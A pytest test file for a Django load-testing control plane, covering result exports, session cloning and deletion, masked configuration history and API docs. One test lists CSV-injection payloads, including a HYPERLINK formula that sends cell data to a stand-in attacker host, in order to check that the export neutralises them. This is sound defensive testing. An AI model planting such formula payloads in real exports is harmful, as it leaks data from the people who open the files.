"""The rest of the control plane: results (timeseries, error log, exports), session
lifecycle actions (clone, delete), configuration history, filters, and the OpenAPI docs."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.staticfiles import finders
from django.utils import timezone

from apps.sessions.models import (
    ConfigChange,
    Endpoint,
    EndpointStats,
    ErrorSample,
    LoadTestSession,
    Target,
    TimeSeriesPoint,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def finished(db):
    """A completed session with results, as the monitor would have left it."""
    target = Target.objects.create(name="shop", base_url="http://127.0.0.1:5001")
    Endpoint.objects.create(target=target, name="slow", url="/performance/slow")
    start = timezone.now() - timedelta(minutes=2)
    session = LoadTestSession.objects.create(
        session_name="nightly", target=target, status="completed", start_time=start,
        end_time=start + timedelta(seconds=3), total_requests=30, total_failures=2,
    )  # fmt: skip
    EndpointStats.objects.create(
        session=session, name="slow", method="GET", url="http://127.0.0.1:5001/performance/slow",
        requests=30, failures=3, failures_by_class={"http_5xx": 2, "application": 1},
        not_sent={"missed": 1}, check_failures={"says ok": 1},
        p50_ms=12.5, p95_ms=40.0, p99_ms=55.0, max_ms=61.0, min_ms=3.0, mean_ms=15.0,
    )  # fmt: skip
    for second in range(3):
        TimeSeriesPoint.objects.create(
            session=session, timestamp=start + timedelta(seconds=second), requests=10,
            failures=second == 2, latency_sum_ms=150.0,
        )  # fmt: skip
    ErrorSample.objects.create(
        session=session, at=start, endpoint="slow", failure_class="http_5xx", status=503,
        message="HTTP 503 Service Unavailable: try later",
    )  # fmt: skip
    return session


def test_timeseries_lists_points_and_filters_by_since(viewer_api, finished):
    url = f"/api/sessions/{finished.pk}/timeseries/"
    points = viewer_api.get(url).json()["results"]
    assert [p["requests"] for p in points] == [10, 10, 10]
    assert points[0]["mean_ms"] == 15.0
    since = TimeSeriesPoint.objects.order_by("timestamp").first().timestamp.isoformat()
    assert len(viewer_api.get(url, {"since": since}).json()["results"]) == 2
    bad = viewer_api.get(url, {"since": "yesterday"})
    assert bad.status_code == 400 and "since" in bad.json()


def test_error_log_lists_sampled_failures(viewer_api, finished):
    (sample,) = viewer_api.get(f"/api/sessions/{finished.pk}/errors/").json()["results"]
    assert (sample["endpoint"], sample["failure_class"], sample["status"]) == (
        "slow", "http_5xx", 503,
    )  # fmt: skip
    assert "try later" in sample["message"]


def test_export_json_has_everything(viewer_api, finished):
    response = viewer_api.get(f"/api/sessions/{finished.pk}/export/", {"format": "json"})
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    document = response.json()
    assert document["session"]["session_name"] == "nightly"
    assert document["stats"]["total_requests"] == 30
    assert document["stats"]["endpoints"][0]["check_failures"] == {"says ok": 1}
    assert len(document["timeseries"]) == 3
    assert document["errors"][0]["status"] == 503


def test_export_csv_tables(viewer_api, finished):
    url = f"/api/sessions/{finished.pk}/export/"
    response = viewer_api.get(url, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].endswith(f'session-{finished.pk}-endpoints.csv"')
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert (row["endpoint"], row["requests"], row["failures_http_5xx"], row["missed"]) == (
        "slow", "30", "2", "1",
    )  # fmt: skip
    assert row["p95_ms"] == "40.0"
    assert (row["failures_application"], row["check_failures"]) == ("1", '{"says ok": 1}')
    series = viewer_api.get(url, {"format": "csv", "table": "timeseries"})
    assert len(list(csv.DictReader(io.StringIO(series.content.decode())))) == 3
    assert viewer_api.get(url, {"format": "csv", "table": "nope"}).status_code == 400


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+SUM(1,2)", "-2+3", "@SUM(A1)",
     "\t=1+1", "\r=1+1"],
)  # fmt: skip
def test_export_csv_neutralises_cells_a_spreadsheet_would_run(viewer_api, finished, hostile):
    """OWASP's CSV injection: a name the user wrote must not become a formula."""
    EndpointStats.objects.filter(session=finished).update(name=hostile, method="-GET")
    url = f"/api/sessions/{finished.pk}/export/"
    answer = viewer_api.get(url, {"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(answer.content.decode(), newline=""))
    assert (row["endpoint"], row["method"]) == ("'" + hostile, "'-GET")
    assert (row["requests"], row["p95_ms"]) == ("30", "40.0")
    finished.flow_stats.create(name=hostile, iterations=3)
    flows = viewer_api.get(url, {"format": "csv", "table": "flows"})
    (flow,) = csv.DictReader(io.StringIO(flows.content.decode(), newline=""))
    assert flow["flow"] == "'" + hostile


def test_clone_makes_a_pending_copy(api, finished):
    response = api.post(f"/api/sessions/{finished.pk}/clone/")
    assert response.status_code == 201
    copy = LoadTestSession.objects.get(pk=response.json()["id"])
    assert copy.status == "pending" and copy.total_requests == 0
    assert copy.session_name == "nightly (copy)"
    assert (copy.target_id, copy.concurrent_users) == (
        finished.target_id,
        finished.concurrent_users,
    )


def test_delete_refuses_a_running_session_and_removes_a_finished_one(api, finished):
    running = LoadTestSession.objects.create(
        session_name="live", target=finished.target, status="running", start_time=timezone.now()
    )
    assert api.delete(f"/api/sessions/{running.pk}/").status_code == 409
    assert api.delete(f"/api/sessions/{finished.pk}/").status_code == 204
    assert not LoadTestSession.objects.filter(pk=finished.pk).exists()
    assert not TimeSeriesPoint.objects.filter(session_id=finished.pk).exists()


def test_finished_session_configuration_is_final(api, finished):
    response = api.patch(f"/api/sessions/{finished.pk}/", {"concurrent_users": 3}, format="json")
    assert response.status_code == 409


def test_history_records_who_changed_what(api, admin_api, operator, administrator, finished):
    session = LoadTestSession.objects.create(session_name="draft", target=finished.target)
    api.patch(f"/api/sessions/{session.pk}/", {"concurrent_users": 25}, format="json")
    endpoint = Endpoint.objects.get(name="slow")
    admin_api.patch(
        f"/api/endpoints/{endpoint.pk}/",
        {"weight": 3, "headers": {"Authorization": "Bearer s3cr3t-value", "X-Team": "team-blue"}},
        format="json",
    )

    (change,) = api.get(f"/api/sessions/{session.pk}/history/").json()["results"]
    assert (change["field"], change["old_value"], change["new_value"]) == (
        "concurrent_users", 10, 25,
    )  # fmt: skip
    assert (change["changed_by"], change["via"]) == ("olivia", "api")
    changes = {c["field"]: c for c in api.get(f"/api/endpoints/{endpoint.pk}/history/").json()[
        "results"]}  # fmt: skip
    assert changes["weight"]["new_value"] == 3.0
    # Every header value is masked, whatever the header is called; a fingerprint tells
    # versions apart without showing them.
    masked = changes["headers"]["new_value"]
    assert set(masked) == {"Authorization", "X-Team"}
    assert all(value.startswith("[redacted] #") for value in masked.values())
    assert masked["Authorization"] != masked["X-Team"]
    assert "s3cr3t" not in str(list(ConfigChange.objects.values()))
    assert "team-blue" not in str(list(ConfigChange.objects.values()))


def test_credential_headers_are_shown_masked_and_kept_on_round_trip(admin_api, finished):
    endpoint = Endpoint.objects.get(name="slow")
    url = f"/api/endpoints/{endpoint.pk}/"
    admin_api.patch(url, {"headers": {"Authorization": "Token t0ps3cret"}}, format="json")
    shown = admin_api.get(url).json()
    assert shown["headers"] == {"Authorization": "[redacted]"}
    admin_api.put(url, {**shown, "description": "edited"}, format="json")  # sent back as read
    assert Endpoint.objects.get(pk=endpoint.pk).headers == {"Authorization": "Token t0ps3cret"}


def test_admin_edits_are_in_the_history(client, administrator, finished):
    administrator.is_staff = True
    administrator.save()
    client.force_login(administrator)
    target = finished.target
    response = client.post(
        f"/admin/loadtests/target/{target.pk}/change/",
        {"name": "renamed", "base_url": target.base_url, "description": "",
         "endpoints-TOTAL_FORMS": "0", "endpoints-INITIAL_FORMS": "0"},
    )  # fmt: skip
    assert response.status_code == 302, response.content[:500]
    change = ConfigChange.objects.get(object_type="target", field="name")
    assert (change.old_value, change.new_value, change.via) == ("shop", "renamed", "admin")


def test_session_list_filters_searches_and_orders(viewer_api, finished):
    LoadTestSession.objects.create(session_name="other", target=finished.target)

    def names(**q):
        return [s["session_name"] for s in viewer_api.get("/api/sessions/", q).json()[
            "results"]]  # fmt: skip

    assert names(status="completed") == ["nightly"]
    assert names(search="oth") == ["other"]
    assert names(ordering="created_at") == ["nightly", "other"]
    assert viewer_api.get("/api/sessions/", {"status": "bogus"}).status_code == 400


def test_schema_and_docs_are_served_offline_to_signed_in_users(viewer_api, client):
    schema = viewer_api.get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert schema.status_code == 200
    paths = schema.json()["paths"]
    assert "/api/sessions/{id}/start/" in paths and "/api/emergency-stop/" in paths
    docs = viewer_api.get("/api/docs/")
    assert docs.status_code == 200
    html = docs.content.decode()
    assets = re.findall(r'(?:src|href)="([^"]+)"', html)
    assert all(not asset.startswith(("http://", "https://", "//")) for asset in assets), assets
    bundle = next(a for a in assets if a.endswith("swagger-ui-bundle.js"))
    assert finders.find(bundle.removeprefix("/static/"))  # shipped in a package, served here
    assert client.get("/api/docs/").status_code in (401, 403)
    assert client.get("/api/schema/").status_code in (401, 403)


def test_total_users_ceiling_across_running_sessions(api, finished, settings):
    settings.MAX_TOTAL_USERS = 30
    LoadTestSession.objects.create(
        session_name="big", target=finished.target, status="running", concurrent_users=25,
        start_time=datetime.now(tz=UTC),
    )  # fmt: skip
    waiting = LoadTestSession.objects.create(
        session_name="second", target=finished.target, concurrent_users=10
    )
    response = api.post(f"/api/sessions/{waiting.pk}/start/")
    assert response.status_code == 400
    assert "MAX_TOTAL_USERS" in response.json()["concurrent_users"][0]
    assert LoadTestSession.objects.get(pk=waiting.pk).status == "pending"


def test_a_target_with_sessions_cannot_be_deleted(admin_api, finished):
    response = admin_api.delete(f"/api/targets/{finished.target_id}/")
    assert response.status_code == 409
    assert "load-test sessions" in response.json()["detail"]
    assert Target.objects.filter(pk=finished.target_id).exists()
